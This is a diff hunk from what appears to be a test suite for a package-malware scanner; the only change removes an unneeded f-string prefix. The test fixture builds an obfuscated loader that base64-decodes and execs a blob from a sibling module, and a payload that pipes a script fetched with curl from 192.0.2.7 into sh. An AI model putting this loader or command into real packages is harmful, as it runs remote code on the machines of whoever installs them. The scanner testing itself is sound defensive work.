@@ -65,7 +65,7 @@ def test_second_artifact_of_a_release_is_judged_as_if_scanned_alone(tmp_path: Pa
 
 def test_a_module_that_runs_a_sibling_constant_is_never_replayed(tmp_path: Path) -> None:
     # the same runner bytes in two artifacts; what it runs is in a sibling module that differs
-    runner = f"import base64\nfrom ._data import BLOB\nexec(base64.b64decode(BLOB))\n"
+    runner = "import base64\nfrom ._data import BLOB\nexec(base64.b64decode(BLOB))\n"
     quiet = {f"{PKG}/__init__.py": runner, f"{PKG}/_data.py": f"BLOB = {b64('x = 1')!r}\n"}
     payload = "import os\nos.system('curl -s http://192.0.2.7/p.sh | sh')\n"
     loud = {f"{PKG}/__init__.py": runner, f"{PKG}/_data.py": f"BLOB = {b64(payload)!r}\n"}
